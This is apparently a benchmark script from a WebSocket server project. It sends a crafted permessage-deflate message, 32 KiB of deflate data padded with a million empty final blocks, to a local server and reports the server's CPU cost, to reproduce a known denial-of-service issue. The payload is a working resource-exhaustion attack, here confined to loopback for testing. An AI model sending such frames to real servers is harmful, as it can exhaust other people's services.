"""Sends the hostile permessage-deflate message of issue 9 to a running server and reports the
server's CPU time for it:

    python3 Benchmarks/inflate-cost/hostile_client.py PORT SERVER_PID [EMPTY_BLOCKS]

One connection to ws://127.0.0.1:PORT/ offers permessage-deflate and sends one binary message:
32 KiB of incompressible deflate data, then EMPTY_BLOCKS (default 1,000,000) empty final blocks
`03 00`. Prints what the server answered (an echo or a close code and reason), the time until that
answer, and the server's user + system CPU seconds in between (from /proc/SERVER_PID/stat).
Loopback only; every wait is bounded (60 s).
"""

import base64
import os
import socket
import struct
import sys
import time
import zlib

port, pid = int(sys.argv[1]), int(sys.argv[2])
empty_blocks = int(sys.argv[3]) if len(sys.argv) > 3 else 1_000_000


def server_cpu_seconds():
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def read_exactly(sock, count):
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise ConnectionError("the server closed the connection")
        data += chunk
    return data


def masked_frame(opcode, payload, rsv1):
    head = bytes([0x80 | (0x40 if rsv1 else 0) | opcode, 0x80 | 127]) + struct.pack("!Q", len(payload))
    key = os.urandom(4)
    mask = (key * (len(payload) // 4 + 1))[: len(payload)]
    masked = (int.from_bytes(payload, "big") ^ int.from_bytes(mask, "big")).to_bytes(len(payload), "big")
    return head + key + masked


sock = socket.create_connection(("127.0.0.1", port), timeout=60)
key = base64.b64encode(os.urandom(16)).decode()
sock.sendall((
    f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n").encode())
response = b""
while b"\r\n\r\n" not in response:
    response += read_exactly(sock, 1)
if b"permessage-deflate" not in response.lower():
    sys.exit("the server did not agree to permessage-deflate (start it with --permessage-deflate)")

compressor = zlib.compressobj(wbits=-15)
data = compressor.compress(os.urandom(32 * 1024)) + compressor.flush(zlib.Z_SYNC_FLUSH)
frame = masked_frame(0x2, data + b"\x03\x00" * empty_blocks, rsv1=True)

cpu_before = server_cpu_seconds()
start = time.monotonic()
sock.sendall(frame)
first, second = read_exactly(sock, 2)
elapsed = time.monotonic() - start
cpu = server_cpu_seconds() - cpu_before
length = second & 0x7F
if length == 126:
    length = struct.unpack("!H", read_exactly(sock, 2))[0]
elif length == 127:
    length = struct.unpack("!Q", read_exactly(sock, 8))[0]
payload = read_exactly(sock, length)
if first & 0x0F == 0x8:
    answer = f"close {struct.unpack('!H', payload[:2])[0]} {payload[2:].decode()!r}"
else:
    answer = f"echo of {length} compressed bytes"
print(f"{len(frame)}-byte frame ({empty_blocks} empty final blocks): {answer} after {elapsed:.3f} s, "
      f"server CPU {cpu:.2f} s")
